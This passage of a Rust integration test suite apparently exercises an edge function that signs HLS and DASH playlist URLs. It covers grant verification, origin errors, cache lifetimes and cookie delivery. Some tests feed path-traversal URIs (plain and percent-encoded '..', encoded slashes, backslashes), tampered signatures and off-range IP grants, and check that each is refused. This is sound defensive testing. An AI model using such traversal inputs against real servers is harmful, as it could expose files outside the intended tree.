//! The function end to end through its real adapters: event JSON in,
//! response JSON out, with a real loopback HTTP origin, the sample events in
//! `events/`, and keys generated here.

mod common;

use std::path::{Path, PathBuf};

use base64::Engine;
use common::generated_key;
use common::http_origin::HttpOrigin;
use common::independent;
use hls_edge_signer::config::RawConfig;
use hls_edge_signer::edge::lambda::handle_event;
use hls_edge_signer::edge::{Handler, LogRecord};
use hls_edge_signer::keys::PrivateKey;
use hls_edge_signer::{
    verify_request, HashAlgorithm, KeyAlgorithm, Policy, PublicKey, RsaBackend, TrustedKeys,
    UrlSigner,
};
use serde_json::{json, Value};

const DIST: &str = "d111111abcdef8.cloudfront.net";
const NOW: u64 = 1_800_000_000;
const KEY_PAIR_ID: &str = "KHANDLER";

fn repo() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

/// The generated key written to a file the handler's key source reads.
/// Written once per test binary: tests run in parallel, and a key file
/// rewritten under a reader's feet would be read half-written.
fn key_file() -> PathBuf {
    static PATH: std::sync::OnceLock<PathBuf> = std::sync::OnceLock::new();
    PATH.get_or_init(|| {
        let path = PathBuf::from(env!("CARGO_TARGET_TMPDIR"))
            .join(format!("handler-test-key-{}.pem", std::process::id()));
        let (private, _) = generated_key(KeyAlgorithm::EcdsaP256);
        std::fs::write(&path, private).unwrap();
        path
    })
    .clone()
}

fn trusted() -> TrustedKeys {
    let (_, public) = generated_key(KeyAlgorithm::EcdsaP256);
    let mut keys = TrustedKeys::new();
    keys.insert(KEY_PAIR_ID, PublicKey::from_pem(public).unwrap());
    keys
}

fn signer() -> UrlSigner {
    let (private, _) = generated_key(KeyAlgorithm::EcdsaP256);
    let key = PrivateKey::from_pem(private).unwrap();
    UrlSigner::new(
        key.signer(RsaBackend::AwsLc).unwrap(),
        KEY_PAIR_ID,
        HashAlgorithm::Sha256,
    )
    .unwrap()
}

/// The sample events' grants are signed with a throwaway key whose public
/// half is committed (`scripts/make-events.py`).
const EVENTS_KEY: (&str, &str) = ("KSAMPLEEVENTS", "@events/sample-events-public.pem");

async fn handler(extra: Value, origin_dir: Option<&Path>) -> Handler {
    let mut config = json!({
        "key": {"file": key_file()},
        "key_pair_id": KEY_PAIR_ID,
        "trusted_keys": {EVENTS_KEY.0: EVENTS_KEY.1},
        "cors_allowed_origins": ["https://player.example.com"],
        "timeout_ms": 800,
        "connect_timeout_ms": 300,
        "max_playlist_bytes": 200000,
    });
    for (k, v) in extra.as_object().unwrap() {
        config[k] = v.clone();
    }
    let raw = RawConfig::from_json(&config.to_string()).unwrap();
    Handler::from_config(raw.validate().unwrap(), origin_dir.map(Path::to_path_buf))
        .await
        .unwrap()
}

fn event(name: &str) -> Value {
    let text = std::fs::read_to_string(repo().join("events").join(name)).unwrap();
    serde_json::from_str(&text).unwrap()
}

/// A canned grant for `https://DIST{path}`, as a query.
fn grant_for(path: &str) -> String {
    let url = format!("https://{DIST}{path}");
    let signed = signer()
        .sign_url(&url, &Policy::canned(&url, NOW + 900))
        .unwrap();
    signed.split_once('?').unwrap().1.to_owned()
}

/// `query` followed by a canned grant for `path?query`.
fn query_with_grant(path: &str, query: &str) -> String {
    grant_for(&format!("{path}?{query}"))
}

/// A viewer-request event for `uri` with `query` and extra headers.
fn cf_event(event_type: &str, uri: &str, query: &str, headers: Value) -> Value {
    let mut e = event("viewer-request-master.json");
    e["Records"][0]["cf"]["config"]["eventType"] = json!(event_type);
    e["Records"][0]["cf"]["request"]["uri"] = json!(uri);
    e["Records"][0]["cf"]["request"]["querystring"] = json!(query);
    let mut h = json!({"host": [{"key": "Host", "value": DIST}]});
    for (k, v) in headers.as_object().unwrap() {
        h[k] = json!([{"key": k, "value": v}]);
    }
    e["Records"][0]["cf"]["request"]["headers"] = h;
    e
}

async fn run(handler: &Handler, event: Value) -> (Value, LogRecord) {
    handle_event(handler, event, NOW).await.unwrap()
}

/// The body of a generated CloudFront response, un-gzipped if needed.
fn cf_body(response: &Value) -> String {
    let body = response["body"].as_str().unwrap_or("");
    if response["bodyEncoding"] == "base64" {
        let bytes = base64::engine::general_purpose::STANDARD
            .decode(body)
            .unwrap();
        let mut text = String::new();
        std::io::Read::read_to_string(&mut flate2::read::GzDecoder::new(&bytes[..]), &mut text)
            .unwrap();
        text
    } else {
        body.to_owned()
    }
}

fn header<'a>(response: &'a Value, name: &str) -> Option<&'a str> {
    response["headers"][name][0]["value"].as_str()
}

/// Every signed URI in `body` verifies for a playlist at `base`.
fn assert_all_signed(body: &str, base: &str) -> usize {
    let mut count = 0;
    for line in body.lines() {
        let uri = if line.starts_with('#') {
            match line.split_once("URI=\"") {
                Some((_, rest)) => rest.split('"').next().unwrap(),
                None => continue,
            }
        } else {
            line
        };
        if uri.is_empty() {
            continue;
        }
        let mut absolute = if uri.starts_with("http") {
            uri.to_owned()
        } else {
            format!("{base}{uri}")
        };
        // The sample playlists only use `../` right after a directory.
        while let Some(at) = absolute.find("/../") {
            let parent = absolute[..at].rfind('/').unwrap();
            absolute.replace_range(parent..at + 3, "");
        }
        verify_request(&absolute, &[], &trusted(), NOW + 1, None)
            .unwrap_or_else(|r| panic!("{absolute}: {r}"));
        count += 1;
    }
    count
}

#[tokio::test]
async fn sample_events_through_the_adapters() {
    let origin = repo().join("events/origin");
    let h = handler(json!({}), Some(&origin)).await;

    // Master playlist: variants renamed and signed, gzip for a gzip viewer.
    let (response, log) = run(&h, event("viewer-request-master.json")).await;
    assert_eq!(response["status"], "200", "{log:?}");
    assert_eq!(
        header(&response, "content-type"),
        Some("application/vnd.apple.mpegurl")
    );
    assert_eq!(response["bodyEncoding"], "base64");
    assert_eq!(header(&response, "content-encoding"), Some("gzip"));
    let body = cf_body(&response);
    assert!(body.contains("\nhd/index._m3u8?"), "{body}");
    assert!(body.contains("URI=\"hd/iframes._m3u8?"), "{body}");
    assert!(body.contains("URI=\"keys/stream.key?"), "{body}");
    assert_eq!(
        assert_all_signed(&body, &format!("https://{DIST}/videos/")),
        4
    );
    let max_age: u64 = header(&response, "cache-control").unwrap()["private, max-age=".len()..]
        .parse()
        .unwrap();
    assert!(max_age <= 3600 + 60, "cache-control outlives signatures");
    assert_eq!((log.status, log.uris, log.signed), (200, 4, 4));

    // Media playlist with the viewer's own custom policy: expiry capped by
    // it (here it is later, so our TTL wins) and the LL-HLS query kept out.
    let (response, log) = run(&h, event("viewer-request-media.json")).await;
    assert_eq!(response["status"], "200", "{log:?}");
    let body = cf_body(&response);
    assert!(body.contains("URI=\"../keys/stream.key?"), "{body}");
    assert_eq!(
        assert_all_signed(&body, &format!("https://{DIST}/videos/hd/")),
        4
    );

    // Origin-request trigger: same handling, its own limit.
    let (response, log) = run(&h, event("origin-request.json")).await;
    assert_eq!(response["status"], "200", "{log:?}");
    assert_eq!(log.trigger, "origin-request");

    // A segment is not ours: the request goes back to CloudFront unchanged.
    let segment = event("viewer-request-segment.json");
    let (response, _) = run(&h, segment.clone()).await;
    assert_eq!(response, segment["Records"][0]["cf"]["request"]);

    // Encoded traversal: 400, nothing fetched.
    let (response, log) = run(&h, event("viewer-request-malformed.json")).await;
    assert_eq!(response["status"], "400");
    assert!(log.reason.unwrap().contains("encoded dot"));

    // Function URL: host from the header, viewer IP from
    // CloudFront-Viewer-Address, CORS for the configured player origin, the
    // grant from the CloudFront Function's header.
    let (response, log) = run(&h, event("function-url.json")).await;
    assert_eq!(response["statusCode"], 200, "{log:?}");
    assert_eq!(log.grant, Some("query"));
    assert_eq!(
        response["headers"]["access-control-allow-origin"],
        "https://player.example.com"
    );
    assert_eq!(response["isBase64Encoded"], true);

    // The same with the viewer's signed cookies, carried by the function's
    // cookie header: verified, and the grants issued stay within them.
    let (response, log) = run(&h, event("function-url-cookies.json")).await;
    assert_eq!(response["statusCode"], 200, "{log:?}");
    assert_eq!(log.grant, Some("cookies"));

    // No grant at all: refused, nothing signed.
    let (response, log) = run(&h, event("function-url-no-grant.json")).await;
    assert_eq!(response["statusCode"], 403, "{log:?}");
    assert_eq!(log.signatures, 0);
    assert!(log.reason.unwrap().starts_with("no viewer grant"));
}

#[tokio::test]
async fn every_event_file_has_a_test() {
    let covered = [
        "viewer-request-master.json",
        "viewer-request-media.json",
        "origin-request.json",
        "viewer-request-segment.json",
        "viewer-request-malformed.json",
        "function-url.json",
        "function-url-cookies.json",
        "function-url-no-grant.json",
    ];
    for entry in std::fs::read_dir(repo().join("events")).unwrap().flatten() {
        let name = entry.file_name().to_string_lossy().into_owned();
        if name.ends_with(".json") {
            assert!(
                covered.contains(&name.as_str()),
                "events/{name} has no test"
            );
        }
    }
}

#[tokio::test]
async fn origin_failures_map_to_clear_statuses() {
    let origin = HttpOrigin::start();
    let h = handler(json!({"origin": origin.base}), None).await;
    let cases = [
        ("/ok/index._m3u8", "200", None),
        ("/missing/index._m3u8", "404", Some("origin answered 404")),
        ("/forbidden/index._m3u8", "404", Some("origin answered 403")),
        ("/broken/index._m3u8", "502", Some("origin answered 500")),
        (
            "/slow/index._m3u8",
            "504",
            Some("did not answer within 800 ms"),
        ),
        ("/huge/index._m3u8", "502", Some("exceeds 200000 bytes")),
        (
            "/redirect/index._m3u8",
            "502",
            Some("redirected off the origin"),
        ),
        (
            "/html/index._m3u8",
            "502",
            Some("does not start with #EXTM3U"),
        ),
    ];
    for (path, status, reason) in cases {
        let event = cf_event("viewer-request", path, &grant_for(path), json!({}));
        let (response, log) = run(&h, event).await;
        assert_eq!(response["status"], status, "{path}: {log:?}");
        if let Some(reason) = reason {
            assert!(
                log.reason.as_deref().unwrap_or("").contains(reason),
                "{path}: {log:?}"
            );
            let body = response["body"].as_str().unwrap();
            assert!(body.len() < 100 && !body.contains("127.0.0.1"), "{body}");
        }
    }
    // Nothing but the configured origin was contacted: the redirect target
    // was reported, not followed.
}

#[tokio::test]
async fn live_playlists_are_kept_briefly_and_their_grants_outlive_the_window() {
    let origin = HttpOrigin::start();
    // A configured lifetime shorter than the window plus the player's delay.
    let h = handler(
        json!({"origin": origin.base, "ttl_seconds": 10, "bucket_seconds": 5}),
        None,
    )
    .await;
    let fetch = |path: &'static str| cf_event("viewer-request", path, &grant_for(path), json!({}));
    let (response, log) = run(&h, fetch("/window/index._m3u8")).await;
    assert_eq!(response["status"], "200", "{log:?}");
    // Half the 4 s target duration, though the origin allows 6 s and the
    // signatures last longer.
    assert_eq!(
        header(&response, "cache-control"),
        Some("private, max-age=2")
    );
    let body = cf_body(&response);
    let base = format!("https://{DIST}/window/index._m3u8");
    let grants = independent::issued_grants(&body, &base);
    assert_eq!(grants.len(), 3, "{body}");
    for (uri, grant) in &grants {
        // 12 s of window + 3 target durations of hold-back = 24 s, in
        // whole 5 s buckets; still inside the viewer's own 900 s.
        assert_eq!(grant.expires, NOW + 25, "{uri}");
    }
    // The same playlist under a viewer grant that ends sooner: cut there.
    let path = "/window/short._m3u8";
    let url = format!("https://{DIST}{path}");
    let short = signer()
        .sign_url(&url, &Policy::canned(&url, NOW + 12))
        .unwrap();
    let query = short.split_once('?').unwrap().1;
    let (response, _) = run(&h, cf_event("viewer-request", path, query, json!({}))).await;
    let body = cf_body(&response);
    let grants = independent::issued_grants(&body, &url);
    assert_eq!(grants.len(), 3, "{body}");
    for (uri, grant) in grants {
        assert_eq!(grant.expires, NOW + 12, "{uri}");
    }

    // The distribution already kept the origin's response for 5 of its 6 s.
    let (aged, _) = run(&h, fetch("/aged-5/index._m3u8")).await;
    assert_eq!(header(&aged, "cache-control"), Some("private, max-age=1"));
    // Kept for all 6: nothing left, so the next reload asks the origin again.
    let (spent, _) = run(&h, fetch("/aged-6/index._m3u8")).await;
    assert_eq!(header(&spent, "cache-control"), Some("private, max-age=0"));
    let (_, again) = run(&h, fetch("/aged-6/index._m3u8")).await;
    assert!(!again.origin_cache_hit);
    assert_eq!(origin.requests_for("/aged-6/").len(), 2);

    // VOD keeps the signatures' own lifetime (capped by the origin's 30 s).
    let vod = format!("{}#EXT-X-ENDLIST\n", common::http_origin::PLAYLIST);
    origin.serve_body("/vod/index.m3u8", &vod);
    let (vod, _) = run(&h, fetch("/vod/index._m3u8")).await;
    assert_eq!(header(&vod, "cache-control"), Some("private, max-age=10"));
}

#[tokio::test]
async fn origin_cache_honours_max_age_and_revalidates() {
    let origin = HttpOrigin::start();
    let h = handler(json!({"origin": origin.base}), None).await;
    let ok = cf_event(
        "viewer-request",
        "/ok/live._m3u8",
        &grant_for("/ok/live._m3u8"),
        json!({}),
    );
    let (_, first) = run(&h, ok.clone()).await;
    let (_, second) = run(&h, ok).await;
    assert!(!first.origin_cache_hit && second.origin_cache_hit);
    assert_eq!(origin.hits.load(std::sync::atomic::Ordering::SeqCst), 1);

    let etag = cf_event(
        "viewer-request",
        "/etag/live._m3u8",
        &grant_for("/etag/live._m3u8"),
        json!({}),
    );
    let (r1, _) = run(&h, etag.clone()).await;
    let (r2, log) = run(&h, etag).await;
    assert!(log.origin_cache_hit);
    assert_eq!(
        origin
            .not_modified
            .load(std::sync::atomic::Ordering::SeqCst),
        1
    );
    assert_eq!(cf_body(&r1), cf_body(&r2), "same bucket, same output");
    assert_eq!(header(&r2, "cache-control"), Some("private, max-age=0"));
}

#[tokio::test]
async fn responses_over_the_edge_limit_are_refused() {
    let origin = HttpOrigin::start();
    let h = handler(json!({"origin": origin.base, "mode": "canned"}), None).await;
    let big = |trigger| {
        let path = "/big/index._m3u8";
        cf_event(trigger, path, &grant_for(path), json!({}))
    };
    let (response, log) = run(&h, big("viewer-request")).await;
    assert_eq!(response["status"], "502", "{log:?}");
    assert!(log.oversize && log.reason.unwrap().contains("> 40960 for viewer-request"));
    let (response, log) = run(&h, big("origin-request")).await;
    assert_eq!(response["status"], "200", "{log:?}");
    assert!(log.bytes > 40 * 1024);
}

#[tokio::test]
async fn unsafe_requests_are_refused() {
    let h = handler(json!({}), Some(&repo().join("events/origin"))).await;
    let mut post = cf_event(
        "viewer-request",
        "/videos/index._m3u8",
        &grant_for("/videos/index._m3u8"),
        json!({}),
    );
    post["Records"][0]["cf"]["request"]["method"] = json!("POST");
    let (response, _) = run(&h, post).await;
    assert_eq!(response["status"], "405");
    for uri in [
        "/videos/../x._m3u8",
        "/videos/%2E%2E/x._m3u8",
        "/a%2fb._m3u8",
        "/a\\b._m3u8",
    ] {
        let (response, _) = run(
            &h,
            cf_event("viewer-request", uri, &grant_for(uri), json!({})),
        )
        .await;
        assert_eq!(response["status"], "400", "{uri}");
    }
    let garbage = handle_event(&h, json!({"hello": "world"}), NOW).await;
    assert!(garbage
        .unwrap_err()
        .to_string()
        .contains("neither a CloudFront"));
    let truncated = handle_event(&h, json!({"Records": [{"cf": {}}]}), NOW).await;
    assert!(truncated
        .unwrap_err()
        .to_string()
        .contains("malformed CloudFront event"));
}

/// A function-URL event for `path` with the viewer grant header.
fn function_url_event(path: &str, grant: Option<&str>, viewer_ip: &str) -> Value {
    let mut e = event("function-url.json");
    e["rawPath"] = json!(path);
    e["requestContext"]["http"]["path"] = json!(path);
    e["headers"]["cloudfront-viewer-address"] = json!(format!("{viewer_ip}:40000"));
    e["headers"]
        .as_object_mut()
        .unwrap()
        .remove("accept-encoding");
    if let Some(grant) = grant {
        e["headers"]["x-hls-viewer-grant"] = json!(grant);
    }
    e
}

#[tokio::test]
async fn function_url_grant_header_is_verified_then_propagated() {
    let origin = repo().join("events/origin");
    let h = handler(json!({"mode": "propagate"}), Some(&origin)).await;
    let policy = Policy::custom(&format!("https://{DIST}/videos/*"), NOW + 900);
    let grant = signer().sign_policy(&policy, false).unwrap().to_query();

    let (response, log) = run(
        &h,
        function_url_event("/videos/hd/index._m3u8", Some(&grant), "203.0.113.9"),
    )
    .await;
    assert_eq!(response["statusCode"], 200, "{log:?}");
    assert_eq!(log.propagated, 4, "viewer's own grant re-used: {log:?}");
    assert_eq!(log.signatures, 0);
    assert!(response["body"].as_str().unwrap().contains(&grant));

    // A tampered grant is refused, not trusted.
    let tampered = grant.replace("Signature=", "Signature=AAAA");
    let (response, log) = run(
        &h,
        function_url_event("/videos/hd/index._m3u8", Some(&tampered), "203.0.113.9"),
    )
    .await;
    assert_eq!(response["statusCode"], 403, "{log:?}");
    assert!(log.reason.unwrap().contains("viewer grant rejected"));

    // An IP-pinned grant from another address is refused.
    let pinned = signer()
        .sign_policy(
            &policy.clone().with(hls_edge_signer::Condition::IpAddress(
                "198.51.100.0/24".parse().unwrap(),
            )),
            false,
        )
        .unwrap()
        .to_query();
    let (response, _) = run(
        &h,
        function_url_event("/videos/hd/index._m3u8", Some(&pinned), "203.0.113.9"),
    )
    .await;
    assert_eq!(response["statusCode"], 403);

    // Other paths are not routed to the function.
    let (response, _) = run(
        &h,
        function_url_event("/videos/hd/segment-00000.ts", None, "203.0.113.9"),
    )
    .await;
    assert_eq!(response["statusCode"], 404);
}

#[tokio::test]
async fn origin_cache_is_keyed_by_the_viewers_own_query() {
    let origin = HttpOrigin::start();
    let h = handler(json!({"origin": origin.base}), None).await;
    let path = "/token/index._m3u8";
    let with = |query: &str| {
        cf_event(
            "viewer-request",
            path,
            &query_with_grant(path, query),
            json!({}),
        )
    };
    let (alice, log) = run(&h, with("token=alice")).await;
    assert_eq!(alice["status"], "200", "{log:?}");
    assert!(cf_body(&alice).contains("alice-private-0.ts"));
    // Bob's token is asked of the origin, which refuses it; Alice's cached
    // playlist is not handed to him.
    let (bob, log) = run(&h, with("token=nope")).await;
    assert_eq!(bob["status"], "404", "{log:?}");
    assert!(!log.origin_cache_hit);
    assert_eq!(origin.requests_for("/token/").len(), 2);
    // LL-HLS blocking reloads: one entry per delivery directive.
    let msn = |n: u32| {
        let path = "/live-msn/index._m3u8";
        cf_event(
            "viewer-request",
            path,
            &query_with_grant(path, &format!("_HLS_msn={n}")),
            json!({}),
        )
    };
    let (first, _) = run(&h, msn(7)).await;
    let (second, log) = run(&h, msn(8)).await;
    assert!(!log.origin_cache_hit);
    assert!(cf_body(&first).contains("seg-7.ts"));
    assert!(cf_body(&second).contains("seg-8.ts"));
}

#[test]
fn invoke_cli_prints_the_response() {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_hls-sign"))
        .args([
            "invoke",
            "events/viewer-request-media.json",
            "--origin-dir",
            "events/origin",
            "--public-key",
            "KSAMPLEEVENTS=events/sample-events-public.pem",
            "--key",
        ])
        .arg(key_file())
        .args(["--key-pair-id", KEY_PAIR_ID, "--now", &NOW.to_string()])
        .current_dir(repo())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let response: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(response["status"], "200");
    let log = String::from_utf8_lossy(&out.stderr);
    assert!(
        log.contains("\"status\":200") && !log.contains("PRIVATE KEY"),
        "{log}"
    );

    let bad = std::process::Command::new(env!("CARGO_BIN_EXE_hls-sign"))
        .args(["invoke", "Cargo.toml", "--key"])
        .arg(key_file())
        .args(["--key-pair-id", KEY_PAIR_ID])
        .current_dir(repo())
        .output()
        .unwrap();
    assert_eq!(bad.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&bad.stderr).contains("not JSON"));
}

/// Regressions (security review): no complete signature reaches a log line,
/// even when an origin echoes the function's own signed fetch into a
/// redirect, or a playlist holds an unparseable pre-signed URI.
#[tokio::test]
async fn signatures_stay_out_of_refusal_logs() {
    let origin = HttpOrigin::start();
    // The function's origin is the distribution, reached at the loopback
    // origin: its fetch is signed.
    let h = handler(json!({"distribution_endpoint": origin.base}), None).await;
    let path = "/redirect-echo/index._m3u8";
    let (response, log) = run(
        &h,
        cf_event("viewer-request", path, &grant_for(path), json!({})),
    )
    .await;
    assert_eq!(response["status"], "502", "{log:?}");
    let line = log.json_line();
    assert!(line.contains("redirected off the origin"), "{line}");
    assert!(!line.contains("Signature="), "{line}");

    let presigned = "https://other.example:99999/x.ts?Expires=1800000600&Signature=MEUCIQDzcZLongSignatureThatMustNotBeLogged&Key-Pair-Id=KX";
    origin.serve_body(
        "/bad/index.m3u8",
        &format!("#EXTM3U\n#EXTINF:4,\n{presigned}\n"),
    );
    let h = handler(json!({"origin": origin.base}), None).await;
    let path = "/bad/index._m3u8";
    let (response, log) = run(
        &h,
        cf_event("viewer-request", path, &grant_for(path), json!({})),
    )
    .await;
    assert_eq!(response["status"], "502", "{log:?}");
    let line = log.json_line();
    assert!(line.contains("not a valid URL reference"), "{line}");
    assert!(!line.contains("LongSignature"), "{line}");
}

#[tokio::test]
async fn function_url_serves_an_mpd_as_it_serves_a_playlist() {
    let origin = repo().join("events/origin");
    let h = handler(json!({}), Some(&origin)).await;
    let path = "/sample-dash/stream._mpd";
    let grant = grant_for(path);
    let (response, log) = run(&h, function_url_event(path, Some(&grant), "203.0.113.9")).await;
    assert_eq!(response["statusCode"], 200, "{log:?}");
    assert_eq!(log.format, "dash");
    assert_eq!(
        response["headers"]["content-type"], "application/dash+xml",
        "{response}"
    );
    let body = response["body"].as_str().unwrap();
    let original = std::fs::read_to_string(origin.join("sample-dash/stream.mpd")).unwrap();
    assert_eq!(log.uris, 6, "{log:?}");
    assert_eq!(log.signed, 6, "{log:?}");
    // Every segment a player requests verifies.
    let base = format!("https://{DIST}{path}");
    let reading = common::dash_reading::read(body, &base).unwrap();
    assert_eq!(
        reading.requests.len(),
        3 * 4,
        "three Representations, each an init and the first, second and last segments"
    );
    for request in &reading.requests {
        verify_request(&request.url, &[], &trusted(), NOW + 1, None)
            .unwrap_or_else(|r| panic!("{}: {r}", request.url));
    }
    assert_eq!(
        common::dash_reading::read(&original, &base)
            .unwrap()
            .values
            .len(),
        reading.values.len()
    );

    // Without a grant: 403, as for playlists.
    let (response, _) = run(&h, function_url_event(path, None, "203.0.113.9")).await;
    assert_eq!(response["statusCode"], 403);
    // An origin that is not an MPD: 502 with a short reason, no partial body.
    let (response, log) = run(
        &h,
        function_url_event(
            "/videos/index._mpd",
            Some(&grant_for("/videos/index._mpd")),
            "203.0.113.9",
        ),
    )
    .await;
    assert_eq!(response["statusCode"], 404, "no videos/index.mpd: {log:?}");
}

/// A function-URL event for `path` carrying `grant` and the viewer's own
/// `query` (the delivery choice, for one).
fn delivery_event(path: &str, grant: &str, query: &str) -> Value {
    let mut e = function_url_event(path, Some(grant), "203.0.113.9");
    e["rawQueryString"] = json!(query);
    e
}

/// A function-URL event for `path?query` whose viewer holds a canned grant
/// for exactly that URL (the application signed its delivery choice).
fn canned_delivery_event(path: &str, query: &str) -> Value {
    delivery_event(path, &signing_params(&query_with_grant(path, query)), query)
}

/// What a player does with `EXT-X-DEFINE:QUERYPARAM`: each `{$name}` in the
/// playlist's URIs becomes that parameter of its own URL's query.
fn substitute(reference: &str, viewer_query: &str) -> String {
    let mut out = reference.to_owned();
    for pair in viewer_query.split('&') {
        if let Some((name, value)) = pair.split_once('=') {
            out = out.replace(&format!("{{${name}}}"), value);
        }
    }
    out
}

/// The signing parameters of a query: what the CloudFront Function puts in
/// the grant header.
fn signing_params(query: &str) -> String {
    query
        .split('&')
        .filter(|pair| {
            [
                "Expires=",
                "Policy=",
                "Signature=",
                "Key-Pair-Id=",
                "Hash-Algorithm=",
            ]
            .iter()
            .any(|name| pair.starts_with(name))
        })
        .collect::<Vec<_>>()
        .join("&")
}

fn custom_grant(resource_path: &str, expires: u64) -> String {
    let policy = Policy::custom(&format!("https://{DIST}{resource_path}"), expires);
    signer().sign_policy(&policy, false).unwrap().to_query()
}

#[tokio::test]
async fn query_delivery_hands_the_viewers_own_query_to_every_uri() {
    let origin = repo().join("events/origin");
    let h = handler(json!({}), Some(&origin)).await;
    let path = "/videos/index._m3u8";
    let grant = custom_grant("/videos/*", NOW + 900);
    let (response, log) = run(&h, delivery_event(path, &grant, "hls-delivery=define")).await;
    assert_eq!(response["statusCode"], 200, "{log:?}");
    assert_eq!(log.delivery, "define", "{log:?}");
    assert_eq!(log.signatures, 0, "nothing is signed: {log:?}");
    let body = response["body"].as_str().unwrap().to_owned();
    assert!(body.starts_with(
        "#EXTM3U\n#EXT-X-DEFINE:QUERYPARAM=\"Policy\"\n#EXT-X-DEFINE:QUERYPARAM=\"Signature\"\n"
    ));
    assert_eq!(body.matches("EXT-X-DEFINE").count(), 2, "{body}");
    assert!(body.contains("#EXT-X-VERSION:11\n"), "{body}");
    assert!(!body.contains("#EXT-X-VERSION:6"), "{body}");
    assert!(!body.contains("Signature=") || body.contains("Signature={$Signature}"));
    assert!(
        body.contains(&format!(
            "\nhd/index._m3u8?Policy={{$Policy}}&Signature={{$Signature}}\
             &Key-Pair-Id={KEY_PAIR_ID}&Hash-Algorithm=SHA256&hls-delivery=define\n"
        )),
        "{body}"
    );
    // As a player substitutes them, every URI verifies with the viewer's grant.
    let base = format!("https://{DIST}/videos/");
    let mut checked = 0;
    for line in body.lines() {
        let reference = if line.starts_with('#') {
            match line.split_once("URI=\"") {
                Some((_, rest)) => rest.split('"').next().unwrap(),
                None => continue,
            }
        } else {
            line
        };
        let url = format!("{base}{}", substitute(reference, &grant));
        verify_request(&url, &[], &trusted(), NOW + 1, None)
            .unwrap_or_else(|r| panic!("{url}: {r}"));
        checked += 1;
    }
    assert_eq!(checked, 4, "session key, two variants, I-frames");

    // The same bytes for every viewer: cacheable.
    let other = custom_grant("/videos/*", NOW + 300);
    let (again, _) = run(&h, delivery_event(path, &other, "hls-delivery=define")).await;
    assert_eq!(again["body"].as_str().unwrap(), body);

    // The child playlist comes back through the function the same way.
    let child = delivery_event("/videos/hd/index._m3u8", &grant, "hls-delivery=define");
    let (response, log) = run(&h, child).await;
    assert_eq!(response["statusCode"], 200, "{log:?}");
    assert_eq!(log.delivery, "define");
    assert_eq!(log.signatures, 0);

    // A canned grant names one URL: it cannot travel; the playlist is
    // rewritten and the log says why.
    let (response, log) = run(&h, canned_delivery_event(path, "hls-delivery=query")).await;
    assert_eq!(response["statusCode"], 200, "{log:?}");
    assert_eq!(log.delivery, "rewrite");
    assert_eq!(log.delivery_fallback, Some("canned_grant"));
    // So does a grant that does not cover the playlist's tree.
    let narrow = custom_grant("/videos/index._m3u8*", NOW + 900);
    let (_, log) = run(&h, delivery_event(path, &narrow, "hls-delivery=query")).await;
    assert_eq!(log.delivery_fallback, Some("grant_does_not_cover_tree"));

    // An unknown value is a clear 400.
    let (response, log) = run(&h, delivery_event(path, &grant, "hls-delivery=all")).await;
    assert_eq!(response["statusCode"], 400, "{log:?}");
    assert!(log.reason.unwrap().contains("unknown delivery"));
}

#[tokio::test]
async fn query_delivery_for_dash_adds_url_query_info_and_signs_nothing() {
    let origin = repo().join("events/origin");
    let h = handler(json!({"delivery": "urlquery"}), Some(&origin)).await;
    let path = "/sample-dash/stream._mpd";
    let grant = custom_grant("/sample-dash/*", NOW + 900);
    let (response, log) = run(&h, delivery_event(path, &grant, "")).await;
    assert_eq!(response["statusCode"], 200, "{log:?}");
    assert_eq!(log.delivery, "urlquery", "{log:?}");
    assert_eq!(log.signatures, 0);
    let body = response["body"].as_str().unwrap();
    let original = std::fs::read_to_string(origin.join("sample-dash/stream.mpd")).unwrap();
    let sets = original.matches("<AdaptationSet").count();
    assert_eq!(
        body.matches("urn:mpeg:dash:urlparam:2014").count(),
        sets,
        "{body}"
    );
    // Nothing else changed, and each request with the MPD's query verifies.
    let base = format!("https://{DIST}{path}");
    let reading = common::dash_reading::read(body, &base).unwrap();
    assert!(!reading.requests.is_empty());
    for request in &reading.requests {
        assert!(!request.url.contains("Signature="), "{}", request.url);
        let url = format!("{}?{grant}", request.url);
        verify_request(&url, &[], &trusted(), NOW + 1, None)
            .unwrap_or_else(|r| panic!("{url}: {r}"));
    }
    let without: String = body
        .split("<EssentialProperty schemeIdUri=\"urn:mpeg:dash:urlparam:2014\"")
        .enumerate()
        .map(|(i, part)| {
            if i == 0 {
                part
            } else {
                part.split_once("</EssentialProperty>").unwrap().1
            }
        })
        .collect();
    assert_eq!(without, original);
}

#[tokio::test]
async fn cookie_delivery_sets_cookies_over_the_tree_within_the_grant() {
    let origin = repo().join("events/origin");
    let path = "/videos/index._m3u8";
    let original = std::fs::read_to_string(origin.join("videos/index.m3u8")).unwrap();
    let cookies_of = |response: &Value| -> Vec<String> {
        response["cookies"]
            .as_array()
            .map(|a| a.iter().map(|c| c.as_str().unwrap().to_owned()).collect())
            .unwrap_or_default()
    };

    // Asked for by a viewer whose grant covers the tree: cookies for the
    // tree, the playlist as the origin has it (children go straight there).
    let h = handler(json!({}), Some(&origin)).await;
    let pinned = Policy::custom(&format!("https://{DIST}/videos/*"), NOW + 900).with(
        hls_edge_signer::Condition::IpAddress("203.0.113.0/24".parse().unwrap()),
    );
    let grant = signer().sign_policy(&pinned, false).unwrap().to_query();
    let mut event = delivery_event(path, &grant, "hls-delivery=cookies");
    event["headers"]["origin"] = json!("https://player.example.com");
    let (response, log) = run(&h, event).await;
    assert_eq!(response["statusCode"], 200, "{log:?}");
    assert_eq!(log.delivery, "cookies", "{log:?}");
    assert!(log.cookies_set);
    assert_eq!(response["body"].as_str().unwrap(), original);
    let cookies = cookies_of(&response);
    assert_eq!(cookies.len(), 4, "{cookies:?}");
    for cookie in &cookies {
        assert!(
            cookie.ends_with("; Path=/videos/; Secure; HttpOnly; SameSite=Lax"),
            "{cookie}"
        );
    }
    assert_eq!(
        response["headers"]["access-control-allow-origin"],
        "https://player.example.com"
    );
    assert_eq!(
        response["headers"]["access-control-allow-credentials"],
        "true"
    );
    // The cookies open the tree's files, from the viewer's range only, and
    // expire no later than the viewer's grant.
    let pairs: Vec<(String, String)> = cookies
        .iter()
        .map(|c| {
            let (pair, _) = c.split_once(';').unwrap();
            let (n, v) = pair.split_once('=').unwrap();
            (n.to_owned(), v.to_owned())
        })
        .collect();
    let segment = format!("https://{DIST}/videos/hd/segment-00000.ts");
